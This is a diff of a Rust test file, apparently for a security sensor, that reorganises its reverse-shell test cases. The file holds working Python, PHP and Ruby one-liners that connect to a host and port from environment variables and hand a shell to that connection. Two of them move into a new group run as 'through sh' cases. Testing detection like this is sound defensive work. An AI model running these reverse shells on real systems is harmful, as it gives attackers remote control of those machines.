@@ -1,5 +1,7 @@
 //! Reverse shells of scripting languages that put the connection on the shell's streams.
 
+use std::path::Path;
+
 use anyhow::Result;
 use sensor_tests::{
     lab::{Lab, REVERSE},
@@ -7,7 +9,7 @@ use sensor_tests::{
     suite::Case,
 };
 
-const PYTHON: [(&str, &str); 6] = [
+const PYTHON: [(&str, &str); 5] = [
     (
         "subprocess_after_dup2",
         r#"/usr/bin/python3 -c 'import socket,subprocess,os
@@ -27,13 +29,6 @@ os.execve("/bin/bash",["bash","--norc","-i"],{})'"#,
         r#"/usr/bin/python3 -c 'import socket,subprocess,os
 s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
 subprocess.Popen(["/bin/sh"],stdin=s,stdout=s,stderr=s).wait()'"#,
-    ),
-    (
-        "system",
-        r#"/usr/bin/python3 -c 'import socket,os
-s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
-[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
-os.system("exec sh")'"#,
     ),
     (
         "posix_spawn",
@@ -69,7 +64,7 @@ STDIN->fdopen($c,"r"); STDOUT->fdopen($c,"w"); system("/bin/sh")'"#,
     ),
 ];
 
-const PHP: [(&str, &str); 4] = [
+const PHP: [(&str, &str); 3] = [
     (
         "exec_descriptor_3",
         r#"exec php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P")); exec("/bin/sh -i <&3 >&3 2>&3; true");'"#,
@@ -82,11 +77,6 @@ const PHP: [(&str, &str); 4] = [
         "proc_open_streams",
         r#"php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P"));
 $p=proc_open(["/bin/sh"],[0=>$s,1=>$s,2=>$s],$pipes); proc_close($p);'"#,
-    ),
-    (
-        "proc_open_through_sh",
-        r#"php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P"));
-$p=proc_open("/bin/sh -i; true",[0=>$s,1=>$s,2=>$s],$pipes); proc_close($p);'"#,
     ),
 ];
 
@@ -104,6 +94,24 @@ exec(sprintf("exec /bin/sh -i <&%d >&%d 2>&%d",n,n,n),{f=>f})'"#,
         "reopened_streams",
         r#"ruby -rsocket -e 's=TCPSocket.new(ENV["H"],ENV["P"]); [$stdin,$stdout,$stderr].each{|i|i.reopen(s)}
 exec "/bin/bash","--norc","-i"'"#,
+    ),
+];
+
+/// The language's own `sh -c` has the connection first, and starts the shell that reads from it.
+const THROUGH_SH: [(&str, &[&str], &str); 2] = [
+    (
+        "python::system",
+        &["python3"],
+        r#"/usr/bin/python3 -c 'import socket,os
+s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
+[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
+os.system("exec sh")'"#,
+    ),
+    (
+        "php::proc_open_through_sh",
+        &["php"],
+        r#"php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P"));
+$p=proc_open("/bin/sh -i; true",[0=>$s,1=>$s,2=>$s],$pipes); proc_close($p);'"#,
     ),
 ];
 
@@ -182,6 +190,11 @@ a.close(); _,fds,_,_=socket.recv_fds(b,1,1); os.wait()
 [os.dup2(fds[0],fd) for fd in (0,1,2)]; os.execl("/bin/sh","sh")'"#;
         lab.reverse(script)
     }));
+    for (name, tools, script) in THROUGH_SH {
+        cases.push(Case::new(name, tools, move |lab| {
+            lab.reverse_risen(script, Path::new("/"))
+        }));
+    }
     for (name, tools, script, typed) in PROMPTS {
         cases.push(Case::new(format!("prompt::{name}"), tools, move |lab| {
             prompt(lab, script, typed)
